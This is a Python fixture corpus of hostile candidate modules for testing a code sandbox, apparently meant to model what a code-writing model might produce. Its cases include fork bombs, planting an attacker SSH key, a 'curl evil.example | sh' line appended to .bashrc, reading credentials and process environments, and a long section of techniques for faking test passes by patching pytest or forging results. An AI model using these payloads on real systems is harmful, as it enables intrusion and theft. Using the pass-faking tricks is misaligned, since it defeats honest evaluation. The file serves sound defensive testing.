'''A corpus of hostile candidates: what a small model writes on a bad day, and worse.

Each case is the whole module the sandbox receives in place of `pkg/mod.py`
(the user's `add(a, b)`), the reason its report must give (a regex, matched
against the report's error or else its first failing test's message), and the
isolation it needs for every property to hold. tests/test_hostile.py runs each
case under the strongest layer available and under "none".

Placeholders filled by the test: @PROJECT@ (the user's project, absolute),
@HOME@ (the user's home, a decoy), @PORT@ (a TCP listener on 127.0.0.1),
@SOCKET@ (a unix socket listening in /run, where the session bus and docker's live).

Needs (a case is skipped, with the reason, where its layer is missing):
  fs     writes outside the copy by absolute path: only bubblewrap stops it
  home   reads a non-key secret file by absolute path: only bubblewrap hides it
  net    opens a connection: needs a network namespace (bubblewrap or unshare)
  pidns  kills every process it can see: only a pid namespace makes that harmless
  pids   forks without end: needs a process-count bound (a pids cgroup, or not root)
Everything else holds under every layer, "none" included: the verdict, no
process left, the decoy secrets kept out of the report (scrubbed environment,
redaction), faked passes detected.
'''

from __future__ import annotations

import ast
import re
import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    source: str
    reason: str
    needs: frozenset[str] = frozenset()
    file_size_mb: int | None = None  # the limit its run has, when not the corpus's (and so its disk budget)


def _case(name: str, source: str, reason: str, *needs: str, file_size_mb: int | None = None) -> Case:
    return Case(name, textwrap.dedent(source), reason, frozenset(needs), file_size_mb)


# What the executor says of a module whose added module-level code would run at import.
AT_IMPORT = r"refused before running: the candidate adds code that runs at import"


def at_first_call(source: str, function: str = "add") -> str:
    """The same module with its module-level code (all but imports and definitions) run
    when the tests first call `function`, in the module's globals, instead of at import."""
    tree = ast.parse(source)
    kept, moved = [], []
    for node in tree.body:
        inert = isinstance(node, (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef)) or (
            isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant))  # a docstring
        (kept if inert else moved).append(ast.get_source_segment(source, node, padded=True) or "")
    if not any(isinstance(n, ast.FunctionDef) and n.name == function for n in tree.body):
        kept.append(f"def {function}(a, b):\n    return a + b")
    prologue = (f"    if '_orps_attacked' not in globals():\n"
                f"        globals()['_orps_attacked'] = True\n"
                f"        exec(_ATTACK, globals())\n")
    text = "\n".join(kept) + f"\n\n_ATTACK = {chr(10).join(moved)!r}\n"
    return re.sub(rf"^(def {function}\(.*\):\n)", lambda m: m.group(1) + prologue, text, count=1, flags=re.M)


def _both(name: str, source: str, reason: str, *needs: str) -> list[Case]:
    """A module that acts at import: refused as it is; run at the first call, held for `reason`."""
    source = textwrap.dedent(source)
    return [Case(name, source, AT_IMPORT, frozenset()),
            Case(name + "_when_called", at_first_call(source), reason, frozenset(needs))]


TIMED_OUT = r"timed out"

CASES = [
    # -- runaway code ------------------------------------------------------------
    _case("infinite_loop", """
        def add(a, b):
            while True:
                pass
        """, TIMED_OUT),
    _case("infinite_recursion", """
        def add(a, b):
            return add(a, b) + 1
        """, r"RecursionError|maximum recursion"),
    *_both("recursion_past_the_c_stack", """
        import sys
        sys.setrecursionlimit(10**7)
        def add(a, b):  # through C (sorted's key) at every level: the C stack overflows
            return sorted([a], key=lambda _: add(a, b))[0]
        """, r"SIGSEGV|memory limit|RecursionError"),
    _case("memory_bomb", """
        def add(a, b):
            hoard = []
            while True:
                hoard.append(bytearray(50 * 1024 * 1024))
        """, r"memory limit|MemoryError"),
    _case("fork_bomb", """
        import os
        def add(a, b):
            while True:
                os.fork()
        """, r"process limit|Resource temporarily unavailable", "pids"),
    _case("unkillable_loop", """
        import faulthandler, signal
        def add(a, b):
            faulthandler.cancel_dump_traceback_later()
            faulthandler.disable()
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """, TIMED_OUT),
    _case("sleep_past_the_timeout", """
        import time
        def add(a, b):
            time.sleep(2.0)  # the per-test limit is 1.5 s
            return a + b
        """, TIMED_OUT),
    _case("threads_that_never_finish", """
        import threading, time
        def _forever():
            while True:
                time.sleep(0.05)
        def add(a, b):
            for _ in range(4):
                threading.Thread(target=_forever).start()
            return a + b
        """, r"did not exit"),
    # -- exits and crashes -----------------------------------------------------------
    _case("os_exit_in_function", """
        import os
        def add(a, b):
            os._exit(0)
        """, r"exited with code 0 before reporting|died in this test"),
    _case("sys_exit_in_function", """
        import sys
        def add(a, b):
            sys.exit(0)
        """, r"SystemExit"),
    *_both("os_exit_at_import", """
        import os
        os._exit(0)
        def add(a, b):
            return a + b
        """, r"exited with code 0 before reporting"),
    *_both("sys_exit_at_import", """
        import sys
        sys.exit(0)
        def add(a, b):
            return a + b
        """, r"SystemExit"),
    _case("segfault_with_ctypes", """
        import ctypes
        def add(a, b):
            return ctypes.string_at(0)
        """, r"SIGSEGV"),
    _case("missing_module", """
        import no_such_module_for_orps
        def add(a, b):
            return a + b
        """, r"import failed: ModuleNotFoundError"),
    *_both("close_every_descriptor_at_import", """
        import os
        os.closerange(3, 1 << 16)
        def add(a, b):
            return a + b
        """, r"before reporting|internal error"),
    # -- processes that try to outlive the run --------------------------------------
    _case("detached_double_fork", """
        import os, signal, time
        def add(a, b):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(sig, signal.SIG_IGN)
                    while True:
                        time.sleep(1)
                os._exit(0)
            os.wait()
            return a + b
        """, r"left \d+ background process"),
    _case("detached_setsid_shell", """
        import subprocess
        def add(a, b):
            subprocess.run("setsid sh -c 'trap \\"\\" TERM HUP; sleep 600' >/dev/null 2>&1 &", shell=True)
            return a + b
        """, r"left \d+ background process"),
    _case("kill_every_visible_process", """
        import os, signal
        def add(a, b):
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) != os.getpid():
                    try:
                        os.kill(int(entry), signal.SIGKILL)
                    except OSError:
                        pass
            return 0
        """, r"assert", "pidns"),
    # -- the user's files, secrets and network ----------------------------------------
    _case("write_the_users_project", """
        def add(a, b):
            with open("@PROJECT@/pkg/mod.py", "w") as module:
                module.write("broken = True\\n")
            with open("@PROJECT@/EVIL.txt", "w") as evil:
                evil.write("x")
            return a + b
        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
    _case("write_the_home_directory", """
        import os
        def add(a, b):
            os.makedirs("@HOME@/.ssh", exist_ok=True)
            with open("@HOME@/.ssh/authorized_keys", "a") as keys:
                keys.write("ssh-ed25519 AAAA attacker\\n")
            with open("@HOME@/.bashrc", "a") as rc:
                rc.write("curl evil.example | sh\\n")
            return a + b
        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
    _case("delete_and_rename_outside", """
        import os
        def add(a, b):
            os.rename("@PROJECT@/pkg/mod.py", "@PROJECT@/pkg/mod.py.bak")
            os.remove("@PROJECT@/tests/test_more.py")
            os.remove("@HOME@/.bashrc")
            return a + b
        """, r"Read-only file system|No such file or directory|Permission denied", "fs"),
    _case("print_the_ssh_key_and_environment", """
        import os
        def add(a, b):
            key = open("@HOME@/.ssh/id_rsa").read()
            print(key, os.environ.get("AWS_SECRET_ACCESS_KEY"))
            raise AssertionError("stolen: " + key)
        """, r"No such file or directory|stolen: \[redacted\]"),
    _case("print_a_credentials_file", """
        def add(a, b):
            raise AssertionError(open("@HOME@/.aws/credentials").read())
        """, r"No such file or directory", "home"),
    _case("scan_every_process_environment", """
        import os
        def add(a, b):
            found = []
            for entry in os.listdir("/proc"):
                try:
                    environ = open(f"/proc/{entry}/environ", "rb").read().split(b"\\0")
                except OSError:
                    continue
                found += [v.decode(errors="replace") for v in environ if b"SECRET" in v or b"TOKEN" in v]
            print("\\n".join(found))
            raise AssertionError("environment: " + "; ".join(found))
        """, r"AssertionError: environment"),
    _case("open_a_network_connection", """
        import socket
        def add(a, b):
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as connection:
                connection.sendall(b"exfiltrated")
            return a + b
        """, r"Connection refused|Network is unreachable|timed out|Errno", "net"),
    _case("connect_to_a_unix_socket_outside", """
        import socket
        def add(a, b):
            try:
                with socket.socket(socket.AF_UNIX) as client:
                    client.settimeout(1)
                    client.connect("@SOCKET@")
                    client.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            except OSError:
                pass
            return a - b
        """, r"assert", "fs"),
    # -- output and disk ---------------------------------------------------------------
    _case("stdout_and_stderr_flood", """
        import os, sys
        def add(a, b):
            chunk = "x" * (1024 * 1024)
            for _ in range(300):
                sys.stdout.write(chunk)
                os.write(2, chunk.encode())
            return a + b
        """, r"file size limit|File too large|No space left|disk limit"),
    _case("one_huge_file", """
        def add(a, b):
            with open("huge.bin", "wb") as huge:
                for _ in range(1024):
                    huge.write(b"\\0" * (1024 * 1024))
            return a + b
        """, r"file size limit|File too large|No space left|disk limit"),
    _case("many_large_files", """
        def add(a, b):
            block, number = b"\\1" * (1024 * 1024), 0
            while True:
                with open(f"fill-{number}.bin", "wb") as fill:
                    for _ in range(8):
                        fill.write(block)
                number += 1
        """, r"disk limit|No space left|timed out"),
    # -- files left for the judge ----------------------------------------------------------
    # What the run leaves is read, walked and removed by the executor: it must never block on
    # it, recurse through it or crash on it, and the copy must go whatever it holds.
    _case("fifo_named_like_a_test", """
        import os
        def add(a, b):
            os.mkfifo(os.path.join(os.path.dirname(__file__), "test_waiting.py"))
            return a + b
        """, r"changed the tests"),
    _case("fifo_named_like_a_conftest", """
        import os
        def add(a, b):
            try:
                os.mkfifo("conftest.py")
            except FileExistsError:
                pass
            return a + b
        """, r"changed the tests"),
    _case("directory_tree_deeper_than_the_recursion_limit", """
        import os
        def add(a, b):
            fd = os.open(".", os.O_RDONLY)
            for _ in range(1200):
                os.mkdir("deep", dir_fd=fd)
                inner = os.open("deep", os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd = inner
            os.close(fd)
            return a + b
        """, r"cannot be inspected|disk limit"),
    _case("directories_and_links_past_the_disk_budget", """
        import os, time
        def add(a, b):  # 1.1 s of each test (the per-test limit is 1.5 s): entries are slow on some disks
            os.makedirs("hoard", exist_ok=True)
            deadline, i = time.monotonic() + 1.1, len(os.listdir("hoard"))
            while time.monotonic() < deadline:
                os.mkdir(f"hoard/d{i}")
                os.symlink("../mod.py", f"hoard/l{i}")
                i += 2
            return a + b
        """, r"disk limit", file_size_mb=1),  # a 4 MB budget: 1000 entries (4 KiB each)
    _case("directory_where_the_coverage_data_goes", """
        import os
        def add(a, b):
            for name in ("../coverage.data", "../count.out"):
                try:
                    os.makedirs(os.path.join(name, "inner"))
                except OSError:
                    pass
            return a - b
        """, r"assert"),
    # -- faking a pass -----------------------------------------------------------------
    *_both("forge_result_lines_on_every_descriptor", """
        import json, os
        for fd in range(3, 1024):
            for nodeid in ("tests/test_mod.py::test_add", "tests/test_more.py::test_add_more"):
                line = json.dumps({"kind": "test", "nodeid": nodeid, "outcome": "passed", "seq": 0})
                try:
                    os.write(fd, ("0" * 32 + " " + line + "\\n").encode())
                except OSError:
                    pass
        os._exit(0)
        """, r"forged test results"),
    _case("replay_and_edit_stolen_result_lines", """
        import os
        def add(a, b):
            for fd in os.listdir("/proc/self/fd"):
                try:
                    lines = open(f"/proc/self/fd/{fd}", "rb").read().splitlines()
                except OSError:
                    continue
                for line in lines:
                    if b'"kind":' in line:
                        edited = line.replace(b'"start"', b'"test"').replace(b'"time"', b'"outcome":"passed","t"')
                        for forged in (line, edited):
                            try:
                                os.write(int(fd), forged + b"\\n")
                            except OSError:
                                pass
            return 0
        """, r"forged test results"),
    _case("junk_lines_on_the_results_channel", """
        import os, stat
        def add(a, b):
            junk = b"\\n".join(b"not a record %d" % i for i in range(400_000)) + b"\\n"  # ~8 MB
            for fd in os.listdir("/proc/self/fd"):
                try:
                    if int(fd) > 2 and stat.S_ISREG(os.fstat(int(fd)).st_mode):
                        os.write(int(fd), junk)
                except OSError:
                    pass
            return a + b
        """, r"forged test results"),
    # A look-alike of the second test module, planted before pytest imports it: same file name,
    # a test that passes. (Refused at import; when called, collection is already over.)
    *_both("lookalike_test_module_planted", """
        import sys, types
        _fake = types.ModuleType("test_more")
        _fake.__file__ = "@PROJECT@/tests/test_more.py"
        exec(compile("def test_add_more():\\n    pass\\n", _fake.__file__, "exec"), _fake.__dict__)
        for _name in ("test_more", "tests.test_more"):
            sys.modules[_name] = _fake
        def add(a, b):
            return 3  # right for test_add only
        """, r"assert"),
    *_both("assert_stripping_import_hook", """
        import ast, importlib.abc, importlib.util, sys

        class _Strip(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path, target=None):
                if name.rpartition(".")[2].startswith("test_"):
                    spec = importlib.machinery.PathFinder.find_spec(name, path)
                    if spec is not None and spec.origin:
                        return importlib.util.spec_from_file_location(name, spec.origin, loader=self)
                return None
            def create_module(self, spec):
                return None
            def exec_module(self, module):
                tree = ast.parse(open(module.__spec__.origin).read())
                for node in ast.walk(tree):
                    if hasattr(node, "body") and isinstance(node.body, list):
                        node.body = [n for n in node.body if not isinstance(n, ast.Assert)] or [ast.Pass()]
                module.__file__ = module.__spec__.origin
                exec(compile(ast.fix_missing_locations(tree), module.__file__, "exec"), module.__dict__)
        sys.meta_path.insert(0, _Strip())
        def add(a, b):
            return 0
        """, r"assert"),
    _case("code_in_a_decorator", """
        import sys
        @(lambda f: (sys.modules.pop("tests.test_more", None), f)[1])
        def add(a, b):
            return 0
        """, AT_IMPORT),
    _case("code_in_a_default_argument", """
        def add(a, b, _=__import__("sys").meta_path.clear()):
            return 0
        """, AT_IMPORT),
    _case("code_in_a_class_body", """
        import sys
        class _Setup:
            sys.modules["_pytest.runner"].call_and_report = lambda *a, **k: None
        def add(a, b):
            return 0
        """, AT_IMPORT),
    _case("code_in_a_constant", """
        import builtins
        TABLE = sorted([0], key=builtins.exec("import _pytest.reports as r; r.BaseReport.failed = False"))
        def add(a, b):
            return 0
        """, AT_IMPORT),
    # After collection, the tests that are still to run, changed from the first call.
    _case("later_test_code_replaced", """
        import sys
        def add(a, b):
            if not getattr(sys, "_orps_done", False):
                sys._orps_done = True
                for module in list(sys.modules.values()):
                    if str(getattr(module, "__file__", "")).endswith("test_more.py"):
                        module.test_add_more.__code__ = (lambda: None).__code__
                return a + b  # right for the first test
            return 0
        """, r"tampered with the test harness.*code replaced"),
    _case("later_test_global_replaced", """
        import sys
        def add(a, b):
            for module in list(sys.modules.values()):
                if str(getattr(module, "__file__", "")).endswith("test_more.py"):
                    module.add = lambda a, b: a + b  # the second test calls this one
            return 3 if (a, b) == (1, 2) else 0
        """, r"tampered with the test harness.*add replaced"),
    _case("harness_replaced_under_its_own_file_name", """
        import _pytest.runner as runner
        def add(a, b):
            if not hasattr(runner, "_orps_real"):
                runner._orps_real = runner.call_and_report
                code = ("def call_and_report(item, when, log=True, **kwargs):\\n"
                        "    report = _orps_real(item, when, log=False, **kwargs)\\n"
                        "    report.outcome, report.longrepr = 'passed', None\\n"
                        "    if log:\\n"
                        "        item.ihook.pytest_runtest_logreport(report=report)\\n"
                        "    return report\\n")
                exec(compile(code, runner.__file__, "exec"), vars(runner))  # co_filename: pytest's own
            return 0
        """, r"tampered with the test harness"),
    _case("report_property_replaced_under_pytest_file_name", """
        import _pytest.reports as reports
        def add(a, b):
            space = {}
            exec(compile("def failed(self):\\n    return False\\n", reports.__file__, "exec"), space)
            reports.BaseReport.failed = property(space["failed"])
            exec(compile("def passed(self):\\n    return True\\n", reports.__file__, "exec"), space)
            reports.BaseReport.passed = property(space["passed"])
            return 0
        """, r"tampered with the test harness"),
    *_both("patch_pytest_reports", """
        import _pytest.reports
        _pytest.reports.BaseReport.failed = property(lambda self: False)
        _pytest.reports.BaseReport.passed = property(lambda self: True)
        def add(a, b):
            return 0
        """, r"tampered with the test harness"),
    *_both("patch_pytest_runner", """
        import _pytest.runner as runner
        _original = runner.call_and_report
        def _always_pass(item, when, log=True, **kwargs):
            report = _original(item, when, log=False, **kwargs)
            report.outcome, report.longrepr = "passed", None
            if log:
                item.ihook.pytest_runtest_logreport(report=report)
            return report
        runner.call_and_report = _always_pass
        def add(a, b):
            return 0
        """, r"tampered with the test harness"),
    *_both("patch_the_result_plugin", """
        import orps_lsp.sandbox.plugin as plugin
        plugin._TestState.outcome = property(lambda self: "passed", lambda self, value: None)
        plugin._Reporter.pytest_runtest_logreport = lambda self, report: None
        def add(a, b):
            return 0
        """, r"tampered with the test harness"),
    *_both("rewrite_the_tests_in_the_copy", """
        import pathlib
        _tests = pathlib.Path(__file__).resolve().parent.parent / "tests"
        try:
            (_tests / "test_more.py").write_text("def test_add_more():\\n    pass\\n")
        except OSError:
            pass  # read-only under bubblewrap
        def add(a, b):
            return 3  # right for test_add only
        """, r"changed the tests|assert"),
]
